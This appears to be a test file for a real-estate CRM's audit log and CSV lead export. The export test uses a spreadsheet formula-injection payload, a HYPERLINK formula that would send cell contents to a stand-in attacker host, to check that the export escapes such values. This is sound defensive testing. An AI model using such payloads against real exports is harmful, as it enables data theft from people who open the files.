import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { ADMIN, createAgent, createTestApp, login, TestApp } from './harness';

/** Issue 15 points 6 and 7: the audit log (append-only, with who/when/where/what) and the CSV export of the inbox. */
describe('audit log and lead export (HTTP, real PostgreSQL)', () => {
  let t: TestApp;
  let admin: string;
  let agent: { id: string; token: string; email: string };

  beforeAll(async () => {
    t = await createTestApp();
    admin = await login(t);
    agent = await createAgent(t, admin, 'Audra Audit');
  });
  afterAll(() => t.close());

  const audit = async (query: string, token = admin) => {
    const res = await t.request({ method: 'GET', url: `/api/audit?${query}`, token });
    expect(res.status).toBe(200);
    return res.body as { items: Array<Record<string, unknown>>; total: number };
  };

  it('records sign-ins and failed sign-ins with the address they came from', async () => {
    const bad = await t.request({ method: 'POST', url: '/api/auth/login', body: { email: ADMIN.email, password: 'nope-nope-nope' }, headers: { 'x-forwarded-for': '203.0.113.9' } });
    expect(bad.status).toBe(401);
    const good = await t.request({ method: 'POST', url: '/api/auth/login', body: ADMIN, headers: { 'x-forwarded-for': '198.51.100.7', 'user-agent': 'AuditTest/1.0' } });
    expect(good.status).toBe(200);

    const failed = await audit('action=auth.sign_in_failed');
    expect(failed.items[0]).toMatchObject({ action: 'auth.sign_in_failed', actorName: ADMIN.email, ip: '203.0.113.9', changes: { reason: 'wrong email or password' } });
    const ok = await audit('action=auth.signed_in');
    expect(ok.items[0]).toMatchObject({ action: 'auth.signed_in', actorName: 'Ada Admin', ip: '198.51.100.7', userAgent: 'AuditTest/1.0' });
  });

  it('records role changes with from/to, API key creation and use, and filters by actor and target', async () => {
    const admins = await audit('action=user.created');
    expect(admins.items.some((e) => e.targetId === agent.id)).toBe(true);

    const patch = await t.request({ method: 'PATCH', url: `/api/users/${agent.id}`, token: admin, body: { role: 'team_lead', team: 'North' } });
    expect(patch.status).toBe(200);
    const changed = await audit(`action=user.updated&targetId=${agent.id}`);
    expect(changed.items[0]).toMatchObject({ actorName: 'Ada Admin', targetType: 'user', changes: { role: { from: 'agent', to: 'team_lead' }, team: { from: null, to: 'North' } } });

    const key = await t.request({ method: 'POST', url: '/api/api-keys', token: admin, body: { name: 'Zapier' } });
    expect(key.status).toBe(201);
    const created = await audit(`action=api_key.created&targetId=${key.body.id}`);
    expect(created.items).toHaveLength(1);
    expect(JSON.stringify(created.items[0])).not.toContain(key.body.key);

    expect((await t.request({ method: 'GET', url: '/api/leads', apiKey: key.body.key })).status).toBe(200);
    const used = await audit(`action=api_key.used&targetId=${key.body.id}`);
    expect(used.items[0]).toMatchObject({ apiKeyId: key.body.id, targetType: 'api_key' });

    const me = (await t.request({ method: 'GET', url: '/api/auth/me', token: admin })).body as { id: string };
    const mine = await audit(`actorId=${me.id}&pageSize=200`);
    expect(mine.items.every((e) => e.actorId === me.id)).toBe(true);
    expect(new Set(mine.items.map((e) => e.action))).toEqual(expect.objectContaining({}));
  });

  it('is for admins only, and validates its filters', async () => {
    expect((await t.request({ method: 'GET', url: '/api/audit', token: agent.token })).status).toBe(403);
    const bad = await t.request({ method: 'GET', url: '/api/audit?action=coffee.made', token: admin });
    expect(bad.status).toBe(400);
  });

  it('records every deletion the API offers: who, when, from where and what was deleted', async () => {
    // Every DELETE operation in the API and the entry that records it: a new one must be added here (and recorded).
    const RECORDED_AS: Record<string, string> = {
      deleteSubscription: 'integration.deleted',
      revokeApiKey: 'api_key.revoked',
      deleteView: 'view.deleted',
      deleteUnit: 'unit.deleted',
      deleteUnitPhoto: 'photo.deleted', // exercised in listings.e2e-spec.ts (needs photos on disk)
      removeMyTimeOff: 'time_off.deleted',
      revokeMyCalendarFeed: 'calendar_feed.revoked',
    };
    const spec = JSON.parse(readFileSync(join(__dirname, '../../docs/openapi.json'), 'utf8')) as { paths: Record<string, Record<string, { operationId: string }>> };
    const deletes = Object.values(spec.paths).flatMap((ops) => (ops.delete ? [ops.delete.operationId] : []));
    expect(deletes.sort()).toEqual(Object.keys(RECORDED_AS).sort());

    const from = { 'x-forwarded-for': '192.0.2.44', 'user-agent': 'DeleteTest/2.0' };
    const unit = await t.request({ method: 'POST', url: '/api/inventory', token: admin, body: { ref: 'AUD-1', title: 'Audited bungalow', street: '1 Audit Way', type: 'house', purpose: 'sale', price: 500000, bedrooms: 2, bathrooms: 1, city: 'Seattle' } });
    expect(unit.status).toBe(201);
    expect((await t.request({ method: 'DELETE', url: `/api/inventory/${unit.body.id}`, token: admin, headers: from })).status).toBe(204);
    const [unitEntry] = (await audit(`action=unit.deleted&targetId=${unit.body.id}`)).items;
    expect(unitEntry).toMatchObject({ actorName: 'Ada Admin', ip: '192.0.2.44', userAgent: 'DeleteTest/2.0', targetType: 'unit', changes: { ref: 'AUD-1', title: 'Audited bungalow', address: '1 Audit Way, Seattle', photos: 0 } });
    expect(Date.now() - new Date(unitEntry.at as string).getTime()).toBeLessThan(60_000);

    const off = await t.request({ method: 'POST', url: '/api/viewings/time-off', token: agent.token, body: { startsAt: '2031-05-01T13:00:00.000Z', endsAt: '2031-05-01T18:00:00.000Z', note: 'Dentist' } });
    expect(off.status).toBe(201);
    expect((await t.request({ method: 'DELETE', url: `/api/viewings/time-off/${off.body.id}`, token: agent.token, headers: from })).status).toBe(204);
    expect((await audit(`action=time_off.deleted&targetId=${off.body.id}`)).items[0]).toMatchObject({ actorName: 'Audra Audit', ip: '192.0.2.44', changes: { startsAt: '2031-05-01T13:00:00.000Z', endsAt: '2031-05-01T18:00:00.000Z', note: 'Dentist' } });
    // Deleting what is not there records nothing.
    expect((await t.request({ method: 'DELETE', url: `/api/viewings/time-off/${off.body.id}`, token: agent.token })).status).toBe(404);
    expect((await audit(`action=time_off.deleted&targetId=${off.body.id}`)).total).toBe(1);

    expect((await t.request({ method: 'POST', url: '/api/viewings/feed', token: agent.token })).status).toBe(201);
    expect((await t.request({ method: 'DELETE', url: '/api/viewings/feed', token: agent.token, headers: from })).status).toBe(204);
    expect((await t.request({ method: 'DELETE', url: '/api/viewings/feed', token: agent.token })).status).toBe(204);
    const feeds = await audit(`action=calendar_feed.revoked&targetId=${agent.id}`);
    expect(feeds.total).toBe(1);
    expect(feeds.items[0]).toMatchObject({ actorName: 'Audra Audit', ip: '192.0.2.44', userAgent: 'DeleteTest/2.0' });
  });

  it('records every change to the brokerage settings (stage rules, routing rules, SLA timers) in the words Admin → Pipeline shows, and nothing for a refused or empty change', async () => {
    const from = { 'x-forwarded-for': '192.0.2.45', 'user-agent': 'SettingsTest/1.0' };
    const put = (url: string, body: unknown) => t.request({ method: 'PUT', url, token: admin, body, headers: from });
    const entries = async (targetId: string) => (await audit(`action=settings.changed&targetId=${targetId}&pageSize=50`)).items;

    // Stage rules: turn the first one off.
    const stageRules = (await t.request({ method: 'GET', url: '/api/pipeline/rules', token: admin })).body as { kind: string; stage: string | null; enabled: boolean; reasons: string[]; text: string }[];
    expect(stageRules.length).toBeGreaterThan(0);
    const asInput = (rules: typeof stageRules) => ({ rules: rules.map((r) => ({ kind: r.kind, stage: r.stage, enabled: r.enabled, reasons: r.reasons })) });
    const first = stageRules[0];
    const before = (await entries('stage_rules')).length;
    expect((await put('/api/pipeline/rules', asInput([{ ...first, enabled: false }, ...stageRules.slice(1)]))).status).toBe(200);
    const [stageEntry] = await entries('stage_rules');
    expect((await entries('stage_rules')).length).toBe(before + 1);
    expect(stageEntry).toMatchObject({ actorName: 'Ada Admin', ip: '192.0.2.45', userAgent: 'SettingsTest/1.0', targetType: 'settings' });
    const changes = stageEntry.changes as { from: string[]; to: string[] };
    expect(changes.from[0]).toBe(first.text);
    expect(changes.to[0]).toBe(`${first.text} (off)`);
    // The same set again changes nothing and records nothing; a refused set records nothing.
    expect((await put('/api/pipeline/rules', asInput([{ ...first, enabled: false }, ...stageRules.slice(1)]))).status).toBe(200);
    expect((await put('/api/pipeline/rules', { rules: [{ kind: 'lost_reason', stage: 'lost', enabled: true, reasons: [] }] })).status).toBe(400);
    expect((await entries('stage_rules')).length).toBe(before + 1);
    expect((await put('/api/pipeline/rules', asInput(stageRules))).status).toBe(200);

    // Routing rules: one rule sharing leads among every agent.
    const routed = await put('/api/pipeline/routing', { rules: [{ name: 'Everyone shares', enabled: true, target: 'everyone', capacity: 40 }] });
    expect(routed.status).toBe(200);
    const [routingEntry] = await entries('routing_rules');
    expect((routingEntry.changes as { to: { name: string; capacity: number }[] }).to).toEqual([expect.objectContaining({ name: 'Everyone shares', target: 'everyone', capacity: 40 })]);
    expect((await put('/api/pipeline/routing', { rules: [{ name: 'Nobody', enabled: true, target: 'agents', agents: [] }] })).status).toBe(400);
    expect(await entries('routing_rules')).toHaveLength(1);

    // SLA: business hours and a first-response timer.
    const sla = await put('/api/pipeline/sla', {
      businessHours: { timeZone: 'America/Los_Angeles', days: [1, 2, 3, 4, 5].map((weekday) => ({ weekday, start: '09:00', end: '17:00' })) },
      rules: [{ kind: 'first_response', stage: 'new', minutes: 5, businessHoursOnly: true, warnPercent: 80, escalation: 'notify_team_lead', enabled: true }],
    });
    expect(sla.status).toBe(200);
    const [slaEntry] = await entries('sla');
    const slaChanges = slaEntry.changes as { to: { businessHours: { timeZone: string }; rules: string[] } };
    expect(slaChanges.to.businessHours.timeZone).toBe('America/Los_Angeles');
    expect(slaChanges.to.rules).toEqual([(sla.body as { rules: { text: string }[] }).rules[0].text]);
  });

  it('cannot be changed or deleted, not even by the app database user', async () => {
    await expect(t.db.query(`UPDATE audit_log SET action = 'auth.signed_in'`)).rejects.toThrow(/append-only/);
    await expect(t.db.query(`DELETE FROM audit_log`)).rejects.toThrow(/append-only/);
    await expect(t.db.query(`TRUNCATE audit_log`)).rejects.toThrow(/append-only/);
  });

  it('exports the inbox filter as CSV with the columns asked for, escapes formulas, and records the export', async () => {
    const mk = (name: string, email: string, phone?: string) =>
      t.request({ method: 'POST', url: '/api/leads', token: admin, body: { source: 'phone', contact: { name, email, ...(phone ? { phone } : {}) } } });
    expect((await mk('=HYPERLINK("http://evil.test/?"&A1,"click")', 'evil@example.com')).status).toBe(201);
    expect((await mk('Jane Export', 'jane.export@example.com', '+1 206 555 0101')).status).toBe(201);
    expect((await mk('@SUM(1+1)', '-x@example.com')).status).toBe(201);

    const res = await t.request({ method: 'GET', url: '/api/leads/export?q=example.com&columns=name,email,phone,stage&sort=created', token: admin });
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toContain('text/csv');
    expect(res.headers['content-disposition']).toMatch(/attachment; filename="leads-\d{4}-\d{2}-\d{2}\.csv"/);
    const rows: string[][] = parse(res.body as string, { bom: true });
    expect(rows[0]).toEqual(['Name', 'Email', 'Phone', 'Stage']);
    expect(rows.slice(1)).toEqual([
      [`'=HYPERLINK("http://evil.test/?"&A1,"click")`, 'evil@example.com', '', 'New'],
      ['Jane Export', 'jane.export@example.com', '+12065550101', 'New'],
      [`'@SUM(1+1)`, `'-x@example.com`, '', 'New'],
    ]);

    const rec = await audit('action=export.leads');
    expect(rec.items[0]).toMatchObject({ actorName: 'Ada Admin', targetType: 'inbox', changes: { filters: { q: 'example.com' }, columns: ['name', 'email', 'phone', 'stage'], sort: 'created' } });
  });

  it("exports only the leads the caller can see, and refuses unknown columns", async () => {
    const other = await createAgent(t, admin, 'Otto Other');
    const theirs = await t.request({ method: 'POST', url: '/api/leads', token: other.token, body: { source: 'phone', contact: { name: 'Secret Sam', email: 'sam.secret@example.org' } } });
    expect(theirs.status).toBe(201);
    const lead = await t.request({ method: 'POST', url: '/api/leads', token: agent.token, body: { source: 'phone', contact: { name: 'Visible Val', email: 'val@example.org' } } });
    expect(lead.status).toBe(201);
    const agentToken = await login(t, agent.email, 'agent-password-1');
    const res = await t.request({ method: 'GET', url: '/api/leads/export?q=example.org', token: agentToken });
    expect(res.status).toBe(200);
    expect(res.body).toContain('Visible Val');
    expect(res.body).not.toContain('Secret Sam');
    expect((await t.request({ method: 'GET', url: '/api/leads/export?columns=name,password', token: admin })).status).toBe(400);
  });
});
